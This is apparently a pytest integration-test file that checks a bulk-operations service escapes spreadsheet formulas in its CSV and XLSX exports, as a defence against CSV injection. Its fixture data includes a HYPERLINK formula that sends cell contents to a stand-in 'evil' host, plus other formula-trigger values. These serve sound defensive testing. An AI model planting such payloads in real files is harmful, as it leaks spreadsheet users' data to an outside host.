"""CSV exports are safe to open in a spreadsheet, and a data export sent back as a fix
changes nothing (OWASP's CSV injection)."""

from __future__ import annotations

import csv
import io
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import httpx
import pytest
from openpyxl import load_workbook

from bulkops.cli.client.fix import read_export
from bulkops.wire import FORMULA_TRIGGERS
from tests.integration import data_operations as dops
from tests.integration.conftest import ClientFactory, create_ok, wait_status

HYPERLINK = '=HYPERLINK("http://evil/?x="&A1;"click")'
# name, email, age as uploaded; row 2 and 4 fail validation (no @ in the email).
ROWS = [
    (HYPERLINK, "eve@example.com", "-3"),
    ("@SUM(1+1)", "+cmd", "+1"),
    ("'=already quoted", "q@example.com", ""),
    ("\tTAB", "-2+3", ""),
    ("plain", "p@example.com", "7"),
]


def _csv_text(rows: list[tuple[str, str, str]]) -> str:
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(["name", "email", "age"])
    writer.writerows(rows)
    return buffer.getvalue()


@pytest.fixture(autouse=True)
def _reset() -> None:
    dops.reset()


@pytest.fixture(params=["sqlite", pytest.param("postgres", marks=pytest.mark.postgres)])
async def client(
    request: pytest.FixtureRequest, make_client: ClientFactory
) -> AsyncIterator[httpx.AsyncClient]:
    options: dict[str, Any] = {}
    if request.param == "postgres":
        options.update(
            database_url=request.getfixturevalue("empty_postgres_url"), migrate_on_start=False
        )
    yield await make_client(dops.ALL, **options)


async def _finished(client: httpx.AsyncClient) -> str:
    operation_id = await create_ok(client, _csv_text(ROWS), operation="fixable", metadata={})
    body = await wait_status(client, operation_id)
    assert body["status"] == "CompletedWithErrors"
    return operation_id


async def _export(client: httpx.AsyncClient, operation_id: str, **params: str) -> bytes:
    response = await client.get(f"/api/bulks/{operation_id}/export", params=params)
    assert response.status_code == 200, response.text
    return response.content


def _unsafe(cell: str) -> bool:
    """A cell a spreadsheet would run: begins with a trigger and is not a plain number."""
    if not cell.startswith(FORMULA_TRIGGERS):
        return False
    try:
        float(cell)
    except ValueError:
        return True
    return False


async def test_a_data_export_escapes_formulas_and_leaves_numbers(
    client: httpx.AsyncClient,
) -> None:
    operation_id = await _finished(client)
    text = (await _export(client, operation_id, mode="data")).decode()
    cells = list(csv.reader(io.StringIO(text)))
    assert not [cell for line in cells for cell in line if _unsafe(cell)]
    by_number = {line[3]: line[:3] for line in cells[1:]}
    assert by_number["1"] == ["'" + HYPERLINK, "eve@example.com", "-3"]
    assert by_number["2"] == ["'@SUM(1+1)", "'+cmd", "+1"]
    assert by_number["3"] == ["''=already quoted", "q@example.com", ""]
    assert by_number["4"] == ["'\tTAB", "-2+3" if not _unsafe("-2+3") else "'-2+3", ""]
    assert by_number["5"] == ["plain", "p@example.com", "7"]


async def test_a_report_export_and_the_template_are_escaped_too(
    client: httpx.AsyncClient,
) -> None:
    operation_id = await _finished(client)
    text = (await _export(client, operation_id, mode="report", state="Failed")).decode()
    lines = list(csv.DictReader(io.StringIO(text)))
    messages = {line["rowNumber"]: line["errorMessage"] for line in lines}
    assert messages["2"] == "email: '+cmd' has no @"
    assert not [c for line in csv.reader(io.StringIO(text)) for c in line if _unsafe(c)]
    template = await client.get("/api/operations/fixable/template")
    assert template.status_code == 200 and template.text.strip() == "name,email,age"


async def test_the_xlsx_export_holds_text_cells_never_formulas(
    client: httpx.AsyncClient, tmp_path: Path
) -> None:
    operation_id = await _finished(client)
    path = tmp_path / "data.xlsx"
    path.write_bytes(await _export(client, operation_id, mode="data", format="xlsx"))
    sheet = load_workbook(path).worksheets[0]  # not read-only: formulas would show as "f"
    values = list(sheet.iter_rows(values_only=True))
    assert all(c.data_type != "f" for line in sheet.iter_rows() for c in line)
    names = {line[3]: line[0] for line in values[1:]}
    # Text cells keep the value as uploaded: a spreadsheet shows them, never runs them.
    assert names[1] == HYPERLINK and names[2] == "@SUM(1+1)" and names[3] == "'=already quoted"


async def test_a_csv_export_read_by_bulkops_fix_gives_back_the_rows_as_uploaded(
    client: httpx.AsyncClient, tmp_path: Path
) -> None:
    operation_id = await _finished(client)
    path = tmp_path / "failed.csv"
    path.write_bytes(await _export(client, operation_id, mode="data", state="Failed"))
    fixes = {fix.number: fix.data for fix in read_export(path)}
    assert fixes == {
        2: {"name": "@SUM(1+1)", "email": "+cmd", "age": "+1"},
        4: {"name": "\tTAB", "email": "-2+3", "age": ""},
    }


async def test_a_data_export_row_sent_back_as_a_fix_changes_nothing_but_the_fix(
    client: httpx.AsyncClient,
) -> None:
    operation_id = await _finished(client)
    text = (await _export(client, operation_id, mode="data", state="Failed")).decode()
    [row, _] = list(csv.DictReader(io.StringIO(text)))
    assert row["_rowNumber"] == "2" and row["name"] == "'@SUM(1+1)"
    row["email"] = "'+fixed@example.com"  # edited in the file: still escaped
    response = await client.patch(f"/api/bulks/{operation_id}/rows/2", json={"rowData": row})
    assert response.status_code == 200, response.text
    assert response.json()["rowData"] == {
        "name": "@SUM(1+1)",
        "email": "+fixed@example.com",
        "age": "+1",
    }
    # A fix that is not a data export's row is taken as it is, a leading ' included.
    response = await client.patch(
        f"/api/bulks/{operation_id}/rows/4",
        json={"rowData": {"name": "'=x", "email": "x@example.com", "age": ""}},
    )
    assert response.status_code == 200, response.text
    assert response.json()["rowData"]["name"] == "'=x"


async def test_escaping_can_be_turned_off(make_client: ClientFactory) -> None:
    client = await make_client(dops.ALL, export_escape_formulas=False)
    operation_id = await _finished(client)
    text = (await _export(client, operation_id, mode="data")).decode()
    names = [line[0] for line in csv.reader(io.StringIO(text))][1:]
    assert HYPERLINK in names and "@SUM(1+1)" in names
